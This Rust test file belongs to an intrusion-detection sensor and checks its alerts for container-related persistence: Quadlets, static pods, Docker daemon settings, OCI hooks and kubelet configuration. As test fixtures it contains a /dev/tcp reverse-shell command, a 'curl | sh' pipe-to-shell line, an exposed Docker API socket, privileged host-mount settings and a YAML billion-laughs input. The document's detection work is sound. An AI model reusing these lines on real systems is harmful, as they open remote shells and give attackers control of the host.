//! Quadlets, static pods, engines' configuration, and what container agents are told: what the files say counts.

use super::*;
use crate::detect::follow::Follow;
use crate::detect::rule::Severity;

const QUADLETS: u32 = 60;
const PODS: u32 = 61;
const DOCKER: u32 = 62;
const HOOKS: u32 = 63;
const KUBELET: u32 = 64;

fn machine() -> Machine {
    let mut machine = Machine::new();
    for (watch, path, class) in [
        (QUADLETS, "/etc/containers/systemd", WatchClass::Quadlet),
        (PODS, "/etc/kubernetes/manifests", WatchClass::StaticPod),
        (DOCKER, "/etc/docker", WatchClass::EngineConfig),
        (HOOKS, "/etc/containers/oci/hooks.d", WatchClass::RuntimeHook),
        (KUBELET, "/var/lib/kubelet/config.yaml", WatchClass::KubeletConfig),
    ] {
        machine.user(kind::WATCH, &Watch { watch, path: path.into(), class: Some(class), owner: None });
    }
    machine.alerts();
    machine
}

/// A file with this text, written by a shell.
fn written(machine: &mut Machine, watch: u32, directory: &str, name: &str, text: &str) -> Alert {
    machine.files.insert(format!("{directory}/{name}").into(), text_file(text));
    machine.write(shell(), watch, name);
    machine.one()
}

fn quadlet(machine: &mut Machine, name: &str, text: &str) -> Alert {
    written(machine, QUADLETS, "/etc/containers/systemd", name, text)
}

fn pod(machine: &mut Machine, name: &str, text: &str) -> Alert {
    written(machine, PODS, "/etc/kubernetes/manifests", name, text)
}

fn techniques(alert: &Alert) -> Vec<&'static str> {
    alert.techniques().map(|technique| technique.id).collect()
}

#[test]
fn a_quadlet_with_the_host_is_critical_and_named_by_its_service() {
    let alert = quadlet(
        &mut machine(),
        "web.container",
        "[Container]\nImage=evil:1\nVolume=/:/host\nPodmanArgs=--privileged\n[Service]\nRestart=always\n\
         [Install]\nWantedBy=default.target\n",
    );
    assert_eq!((alert.rule.id, alert.severity), ("container.quadlet.written", Severity::Critical));
    assert_eq!(techniques(&alert), ["T1543.005", "T1543.002"]);
    assert_eq!(
        alert.summary,
        "bash (pid 812, root, login alice) wrote Quadlet web.container in /etc/containers/systemd, which runs a \
         container of evil:1 with restart policy always and -v /:/host --privileged"
    );
    for reason in
        ["podman's generator makes web.service of it", "it starts by itself, with default.target", "+25"]
    {
        assert!(reasons(&alert).contains(reason), "{}", reasons(&alert));
    }
}

#[test]
fn an_everyday_quadlet_is_high_and_a_command_on_the_host_is_looked_at() {
    let mut machine = machine();
    let everyday =
        quadlet(&mut machine, "a.container", "[Container]\nImage=nginx\nVolume=data.volume:/data\n");
    assert_eq!((everyday.severity, everyday.score), (Severity::High, 70), "{}", reasons(&everyday));
    let hidden = quadlet(
        &mut machine,
        "b.volume",
        "[Volume]\n[Service]\nExecStartPre=/bin/sh -c 'curl http://x | sh'\n",
    );
    assert_eq!(hidden.severity, Severity::Critical, "{}", reasons(&hidden));
    assert!(reasons(&hidden).contains("it runs on the host: /bin/sh -c"));
    let drop_in = quadlet(&mut machine, "a.container.d/x.conf", "[Container]\nPodmanArgs=--pid=host\n");
    assert!(reasons(&drop_in).contains("podman's generator makes a.service of it"), "{}", reasons(&drop_in));
    let every = quadlet(&mut machine, "container.d/x.conf", "[Container]\nVolume=/etc:/x\n");
    assert!(reasons(&every).contains("+15 it applies to every container"), "{}", reasons(&every));
    assert_eq!(every.severity, Severity::Critical);
}

#[test]
fn a_drop_in_is_told_by_what_its_source_becomes() {
    let mut machine = machine();
    for (path, text) in [
        (
            "/usr/share/containers/systemd/web.container",
            "[Container]\nImage=vendor\n[Install]\nWantedBy=default.target\n",
        ),
        (
            "/etc/containers/systemd/web.container",
            "[Container]\nImage=nginx\nVolume=/:/host\n[Service]\nRestart=always\n",
        ),
        ("/run/containers/systemd/web.container.d/20-last.conf", "[Container]\nUser=1000\n"),
    ] {
        machine.files.insert(path.into(), text_file(text));
    }
    let alert =
        quadlet(&mut machine, "web.container.d/10-x.conf", "[Container]\nImage=evil\nUser=0\nExec=/x\n");
    assert_eq!(alert.severity, Severity::Critical, "{}", reasons(&alert));
    let told = reasons(&alert);
    assert!(
        told.contains("told is what web.container in /etc/containers/systemd is with 2 drop-ins"),
        "{told}"
    );
    let service = alert.container_service.expect("a container");
    assert_eq!((service.image.as_deref(), service.user.as_deref()), (Some("evil"), Some("1000")));
    assert_eq!((&*service.restart_policy, &service.command[..]), ("always", &["/x".to_owned()][..]));
    let orphan = quadlet(&mut machine, "none.container.d/x.conf", "[Container]\nPodmanArgs=--privileged\n");
    assert!(reasons(&orphan).contains("none.container lies nowhere"), "{}", reasons(&orphan));
    assert_eq!(orphan.severity, Severity::Critical);
}

#[test]
fn the_manifest_of_a_kube_is_read_too() {
    let mut machine = machine();
    machine.files.insert(
        "/etc/containers/systemd/evil.yaml".into(),
        text_file("kind: Pod\nspec: {hostPID: true, containers: [{name: c, image: evil}]}\n"),
    );
    let alert = quadlet(&mut machine, "x.kube", "[Kube]\nYaml=evil.yaml\n");
    assert_eq!(alert.severity, Severity::Critical, "{}", reasons(&alert));
    assert_eq!(alert.container_service.expect("a container").image.as_deref(), Some("evil"));
    // One that is not there says nothing.
    machine.files.insert("/srv/none.yaml".into(), Found::Absent);
    let alert = quadlet(&mut machine, "y.kube", "[Kube]\nYaml=/srv/none.yaml\n");
    assert_eq!(alert.severity, Severity::High, "{}", reasons(&alert));
}

#[test]
fn a_static_pod_is_weighed_by_what_it_is_given() {
    let mut machine = machine();
    let alert = pod(
        &mut machine,
        "evil.yaml",
        "kind: Pod\nmetadata: {name: evil}\nspec:\n  nodeName: n1\n  containers:\n  - name: c\n    image: evil\n    \
         command: [sh, -c, 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1']\n    securityContext: {privileged: true}\n",
    );
    assert_eq!((alert.rule.id, alert.severity), ("container.static-pod.written", Severity::Critical));
    for reason in ["it describes Pod evil", "past the scheduler", "ties a shell to the network"] {
        assert!(reasons(&alert).contains(reason), "{}", reasons(&alert));
    }
    let everyday = pod(&mut machine, "a.yaml", "kind: Pod\nspec: {containers: [{name: c, image: nginx}]}\n");
    assert_eq!(everyday.severity, Severity::High, "{}", reasons(&everyday));
    let laughs = format!("a: &a [{}]\nb: [{}]\n", "x,".repeat(5000), "*a,".repeat(50));
    let broken = pod(&mut machine, "b.yaml", &laughs);
    assert!(reasons(&broken).contains("not all of it was read"), "{}", reasons(&broken));
}

#[test]
fn engines_configuration_and_hooks_are_weighed_by_what_they_say() {
    let mut machine = machine();
    let quiet = written(&mut machine, DOCKER, "/etc/docker", "daemon.json", "{\"log-driver\": \"journald\"}");
    assert_eq!(quiet.severity, Severity::Medium, "{}", reasons(&quiet));
    let open = written(
        &mut machine,
        DOCKER,
        "/etc/docker",
        "daemon.json",
        "{\"hosts\": [\"tcp://0.0.0.0:2375\"], \"runtimes\": {\"x\": {\"path\": \"/tmp/x\"}}}",
    );
    assert_eq!(open.severity, Severity::Critical, "{}", reasons(&open));
    assert!(open.unit.expect("a unit").signals.contains(&"engine.listens"));
    let hook = written(
        &mut machine,
        HOOKS,
        "/etc/containers/oci/hooks.d",
        "x.json",
        "{\"hook\": {\"path\": \"/opt/evil\"}, \"when\": {\"always\": true}}",
    );
    assert_eq!(hook.severity, Severity::Critical, "{}", reasons(&hook));
}

#[test]
fn what_the_running_kubelet_is_told_is_watched() {
    let mut machine = machine();
    machine.files.insert("/etc/k/own.yaml".into(), text_file("staticPodPath: /srv/pods\n"));
    let args = ["kubelet", "--config=/etc/k/own.yaml", "--pod-manifest-path", "/srv/more"];
    machine.user(
        kind::PROCESS_SNAPSHOT,
        &ProcessSnapshot {
            tgid: 700,
            start_boottime_ns: 7 * SECOND,
            exe: "/usr/bin/kubelet".into(),
            exe_device: 8,
            exe_inode: 90,
            args: args.map(str::to_owned).into(),
            mnt_ns: INIT_MNT,
            ..ProcessSnapshot::default()
        },
    );
    let mut follows: Vec<Follow> = machine.pipeline.follows().collect();
    follows.sort_by(|a, b| a.path.cmp(&b.path));
    let told: Vec<_> = follows.iter().map(|follow| (follow.path.as_str(), follow.class)).collect();
    assert_eq!(
        told,
        [
            ("/etc/k/own.yaml", WatchClass::KubeletConfig),
            ("/srv/more", WatchClass::StaticPod),
            ("/srv/pods", WatchClass::StaticPod),
            ("/usr/bin/kubelet", WatchClass::RuntimeProgram),
        ]
    );
    machine.alerts();
    // A change of the configuration brings another folder.
    let path = "/var/lib/kubelet/config.yaml";
    machine.files.insert(path.into(), text_file("staticPodPath: /tmp/pods\nstaticPodURL: http://x\n"));
    let close =
        machine.record(kind::FILE_CLOSE_WRITE, shell()).path(KUBELET, sensor_common::watch::FILE, b"x");
    machine.feed(close.build());
    let alert = machine.one();
    assert_eq!((alert.rule.id, alert.severity), ("container.kubelet-config.written", Severity::Critical));
    assert!(machine.pipeline.follows().any(|follow| follow.path == "/tmp/pods"));
}

#[test]
fn what_distributions_tell_their_kubelet_is_watched() {
    let mut machine = machine();
    machine
        .files
        .insert("/var/snap/m/args/kubelet".into(), text_file("--v=2\n--pod-manifest-path=/srv/snap\n"));
    for (pid, exe, args) in [
        (
            700,
            "/usr/local/bin/k3s",
            &["k3s", "server", "--data-dir", "/srv/k3s", "--kubelet-arg=pod-manifest-path=/srv/p"][..],
        ),
        (701, "/snap/microk8s/1/kubelite", &["kubelite", "--kubelet-args-file=/var/snap/m/args/kubelet"]),
    ] {
        machine.user(
            kind::PROCESS_SNAPSHOT,
            &ProcessSnapshot {
                tgid: pid,
                start_boottime_ns: 7 * SECOND,
                exe: exe.into(),
                exe_device: 8,
                exe_inode: u64::from(pid),
                args: args.iter().map(|arg| (*arg).to_owned()).collect(),
                mnt_ns: INIT_MNT,
                ..ProcessSnapshot::default()
            },
        );
    }
    let told: std::collections::BTreeSet<_> =
        machine.pipeline.follows().map(|follow| (follow.path, follow.class as u32)).collect();
    for (path, class) in [
        ("/srv/k3s/agent/pod-manifests", WatchClass::StaticPod),
        ("/srv/k3s/server/manifests", WatchClass::ClusterManifest),
        ("/srv/p", WatchClass::StaticPod),
        ("/srv/snap", WatchClass::StaticPod),
        ("/var/snap/m/args/kubelet", WatchClass::KubeletConfig),
    ] {
        assert!(told.contains(&(path.to_owned(), class as u32)), "{path}: {told:?}");
    }
}

#[test]
fn a_kubelet_by_hand_is_told_and_a_services_is_not() {
    let mut machine = machine();
    let id = 80;
    machine.user(kind::CGROUP_SNAPSHOT, &CgroupSnapshot { id, path: "/system.slice/kubelet.service".into() });
    let service = TaskContext { cgroup_id: id, loginuid: u32::MAX, ..task(400, PID1) };
    let own = TaskContext { cgroup_id: id, loginuid: u32::MAX, ..machine.fork(service, 401) };
    machine.exec(own, "/usr/bin/kubelet", 90, &["kubelet", "--config=/etc/k/own.yaml"]);
    let asks = machine.fork(shell(), 402);
    machine.exec(asks, "/usr/bin/kubelet", 90, &["kubelet", "--version"]);
    assert!(machine.alerts().is_empty());
    let rogue = machine.fork(shell(), 403);
    machine.exec(rogue, "/opt/kubelet", 91, &["kubelet", "--pod-manifest-path=/tmp/p", "--root-dir=/tmp/r"]);
    let alert = machine.one();
    assert_eq!((alert.rule.id, alert.severity), ("container.kubelet.started", Severity::High));
    assert_eq!(alert.summary, "kubelet (pid 403, root, login alice) started a kubelet, /opt/kubelet");
}

#[test]
fn a_command_that_applies_a_file_is_told_by_what_the_file_says() {
    let mut machine = machine();
    let pod = "kind: Pod\nmetadata: {name: p}\nspec: {containers: [{name: c, image: i, securityContext: {privileged: true}}]}\n";
    let compose = "services: {web: {image: nginx, restart: always}}\n";
    for (path, text) in [
        ("/root/pod.yaml", pod),
        ("/root/ds.yaml", "kind: DaemonSet\nspec: {template: {spec: {containers: [{name: c, image: i}]}}}\n"),
        ("/srv/compose.yaml", compose),
        ("/srv/once.yaml", "services: {web: {image: nginx}}\n"),
    ] {
        machine.files.insert(path.into(), text_file(text));
    }
    for path in
        ["/root/compose.yaml", "/root/compose.yml", "/root/docker-compose.yaml", "/root/docker-compose.yml"]
    {
        machine.files.insert(path.into(), Found::Absent);
    }
    let mut pid = 900;
    for (line, severity, told) in [
        (
            "podman kube play pod.yaml",
            Severity::High,
            "asked podman to kube play container p/c with restart policy Always and --privileged",
        ),
        (
            "docker compose -f /srv/compose.yaml up -d",
            Severity::Medium,
            "asked docker to compose up container web with restart policy always",
        ),
        (
            "kubectl apply -f ds.yaml",
            Severity::Low,
            "asked kubectl to apply container c with restart policy Always",
        ),
    ] {
        pid += 1;
        let child = machine.fork(shell(), pid);
        let args: Vec<&str> = line.split(' ').collect();
        machine.exec(child, &format!("/usr/bin/{}", args[0]), 100 + u64::from(pid), &args);
        let alert = machine.one();
        assert_eq!(
            (alert.rule.id, alert.severity),
            ("container.manifest.applied", severity),
            "{}",
            reasons(&alert)
        );
        assert!(alert.summary.ends_with(told), "{}", alert.summary);
    }
    for line in ["docker compose -f /srv/once.yaml up", "docker compose up", "podman kube play -"] {
        pid += 1;
        let child = machine.fork(shell(), pid);
        let args: Vec<&str> = line.split(' ').collect();
        machine.exec(child, &format!("/usr/bin/{}", args[0]), 100 + u64::from(pid), &args);
    }
    machine.tick(SECOND);
    let said: Vec<String> = machine.alerts().into_iter().map(|alert| alert.summary).collect();
    assert_eq!(said, Vec::<String>::new());
}

#[test]
fn a_unit_that_runs_a_container_is_a_container_service_too() {
    let mut machine = machine();
    machine.files.insert(
        "/etc/systemd/system/web.service".into(),
        text_file("[Service]\nExecStart=/usr/bin/podman run --name web -v /:/host --privileged img\nRestart=always\n"),
    );
    machine.write(shell(), SYSTEM, "web.service");
    let alert = machine.one();
    assert_eq!((alert.rule.id, alert.severity), ("systemd.unit.written", Severity::Critical));
    assert_eq!(techniques(&alert), ["T1543.002", "T1543.005"]);
    assert_eq!(alert.container_service.expect("a container").image.as_deref(), Some("img"));
    // Those of the engines themselves, by their names.
    machine.symlink(
        shell(),
        SYSTEM,
        "default.target.wants/podman-restart.service",
        "/usr/lib/systemd/system/podman-restart.service",
    );
    assert_eq!(techniques(&machine.one()), ["T1543.002", "T1543.005"]);
    machine.write(shell(), SYSTEM, "podman-auto-update.timer");
    assert_eq!(techniques(&machine.one()), ["T1543.002", "T1053.006", "T1543.005"]);
}

/// B6: whatever a container writes of the host's, the alert says which container, and is critical.
#[test]
fn a_container_that_reaches_the_host_is_critical_and_named() {
    let id = "c0ffee".repeat(10) + "c0ff";
    for (watch, name, rule) in [
        (SYSTEM, "evil.service", "systemd.unit.written"),
        (QUADLETS, "evil.container", "container.quadlet.written"),
        (PODS, "evil.yaml", "container.static-pod.written"),
        (HOOKS, "evil.json", "container.runtime-hook.written"),
    ] {
        let mut machine = machine();
        machine.user(
            kind::CGROUP_SNAPSHOT,
            &CgroupSnapshot { id: 80, path: format!("/system.slice/docker-{id}.scope") },
        );
        // By hostPath, a named volume, /proc/1/root or nsenter: to the kernel all are a write to the host's inode by a
        // process of the container's control group.
        let inside = TaskContext { cgroup_id: 80, mnt_ns: INIT_MNT + 9, ..task(500, 499) };
        machine.write(inside, watch, name);
        let alert = machine.one();
        assert_eq!((alert.rule.id, alert.severity), (rule, Severity::Critical), "{}", reasons(&alert));
        assert_eq!(alert.actor.container.expect("a container").id, id);
        assert!(alert.summary.contains("in container c0ffeec0ffee"), "{}", alert.summary);
    }
}

#[test]
fn who_asked_for_a_container_is_named_and_so_is_who_had_the_engine_write() {
    let mut machine = machine();
    let id = "c0ffee".repeat(10) + "c0ff";
    machine.snapshot(300, 1, "/usr/sbin/dockerd", 50);
    let docker = machine.fork(shell(), 901);
    machine.exec(docker, "/usr/bin/docker", 60, &["docker", "run", "-v", "/etc:/m", "box"]);
    machine.tick(SECOND);
    assert_eq!(machine.rules(), ["container.host-access.granted"]);
    let path = format!("/system.slice/docker-{id}.scope");
    machine.feed(crate::event::encode::encode_cgroup(machine.now, task(300, 1), 80, path.as_bytes()));
    // Much later, when the client has long ended.
    machine.tick(3600 * SECOND);
    machine.write(TaskContext { cgroup_id: 80, ..task(500, 499) }, SYSTEM, "evil.service");
    let alert = machine.one();
    let asker = alert.actor.on_behalf_of.clone().expect("who asked");
    assert_eq!((asker.processes[0].pid, asker.confidence), (901, "recent-client"));
    assert_eq!(alert.severity, Severity::Critical);
    assert!(alert.summary.ends_with("probably for docker (pid 901, root, login alice)"), "{}", alert.summary);

    // `docker cp`: the engine executes itself again, outside of all containers.
    let untar = TaskContext { loginuid: u32::MAX, ..machine.fork(task(300, 1), 302) };
    machine.write(untar, PODS, "early.yaml");
    assert_eq!(machine.one().actor.on_behalf_of, None, "nobody asks just now");
    let copies = machine.fork(shell(), 902);
    machine.exec(copies, "/usr/bin/docker", 60, &["docker", "cp", "x", "c:/m"]);
    machine.write(untar, PODS, "evil.yaml");
    let alert = machine.one();
    assert_eq!(alert.actor.on_behalf_of.expect("who asked").processes[0].pid, 902);
    assert_eq!(alert.severity, Severity::High);
}
